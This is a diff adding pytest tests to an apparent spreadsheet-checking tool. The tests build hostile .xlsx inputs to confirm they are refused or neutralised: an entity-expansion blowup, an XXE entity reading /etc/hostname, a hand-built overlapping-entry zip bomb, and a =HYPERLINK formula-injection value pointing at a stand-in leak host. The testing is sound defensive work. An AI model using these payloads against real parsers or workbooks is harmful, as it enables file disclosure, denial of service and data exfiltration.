@@ -375,3 +375,79 @@ def test_lock_files_in_the_folder_are_reported_not_read(
     assert result.stderr.count("lock file, skipped") == 2
     assert "開かれたままです" in result.stderr
     assert "1 " in result.stdout or good.path.name in result.stdout
+
+
+@pytest.mark.parametrize(
+    "doctype",
+    [
+        '<!DOCTYPE sst [<!ENTITY a "' + "x" * 100_000 + '">]>',  # quadratic blowup
+        '<!DOCTYPE sst [<!ENTITY e SYSTEM "file:///etc/hostname">]>',  # XXE
+    ],
+    ids=["quadratic-blowup", "xxe"],
+)
+def test_entity_declarations_are_refused_unread(
+    doctype: str, tmp_path: Path, card_plan: Plan, good: GeneratedForm
+) -> None:
+    def change(name: str, data: bytes) -> bytes:
+        if name != "xl/sharedStrings.xml":
+            return data
+        declaration, body = data.decode().split("?>", 1)
+        entity = "&a;" * 20_000 if "ENTITY a" in doctype else "&e;"
+        return f"{declaration}?>{doctype}{body.replace('<t>', '<t>' + entity, 1)}".encode()
+
+    path = repack(good.path, tmp_path / "x.xlsx", change)
+    assert found(check(card_plan, path)) == [("xml-refused", None)]
+
+
+def test_overlapping_entries_bomb_is_refused_by_declared_total(
+    tmp_path: Path, card_plan: Plan, good: GeneratedForm
+) -> None:
+    """Many directory entries sharing one compressed body (the construction that
+    CPython before 3.11.8 does not detect): the declared sizes add up, so it is refused
+    from the directory alone, whatever the compression ratio."""
+    rng = random.Random(7)
+    body = "".join(rng.choices(string.ascii_letters, k=4 << 20)).encode()  # ratio < 2
+    path = repack(good.path, tmp_path / "x.xlsx", lambda name, data: data)
+    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("xl/media/a0000.bin", body)
+    data = bytearray(path.read_bytes())
+    end = data.rindex(b"PK\x05\x06")
+    cd_size = int.from_bytes(data[end + 12 : end + 16], "little")
+    cd_start = int.from_bytes(data[end + 16 : end + 20], "little")
+    records = bytes(data[cd_start : cd_start + cd_size])
+    last = records.rindex(b"PK\x01\x02")
+    entry = records[last:]
+    copies = b"".join(entry.replace(b"a0000", f"a{n:04d}".encode()) for n in range(1, 100))
+    count = int.from_bytes(data[end + 10 : end + 12], "little") + 99
+    tail = bytearray(data[end:])
+    tail[8:10] = tail[10:12] = count.to_bytes(2, "little")
+    tail[12:16] = (cd_size + len(copies)).to_bytes(4, "little")
+    path.write_bytes(bytes(data[: cd_start + cd_size]) + copies + bytes(tail))
+    assert len(zipfile.ZipFile(path).infolist()) > 100  # 400 MB declared, 4 MB on disk
+    assert found(check(card_plan, path)) == [("zip-bomb", None)]
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_master(
+    tmp_path: Path, card_plan: Plan, good: GeneratedForm
+) -> None:
+    import openpyxl
+
+    from kpibook.master import write_master
+    from kpibook.merge import merge
+
+    payload = '=HYPERLINK("http://example.invalid/?leak","詳細")'
+    cell = f'<c r="{{r}}" t="inlineStr"><is><t>{payload.replace(chr(34), "&quot;")}</t></is></c>'
+    path, _ = with_cell(good, tmp_path / "x.xlsx", ".activity_report", cell)
+    report, entries = merge(card_plan, [path])
+    assert any(e.activity_report == payload for e in entries.entries)
+    write_master(card_plan, report, entries, tmp_path / "master.xlsx")
+    wb = openpyxl.load_workbook(tmp_path / "master.xlsx")
+    hits = [
+        c
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if isinstance(c.value, str) and "HYPERLINK" in c.value
+    ]
+    assert hits, "the text is in the master"
+    assert all(c.data_type == "s" for c in hits)  # text, never a live formula
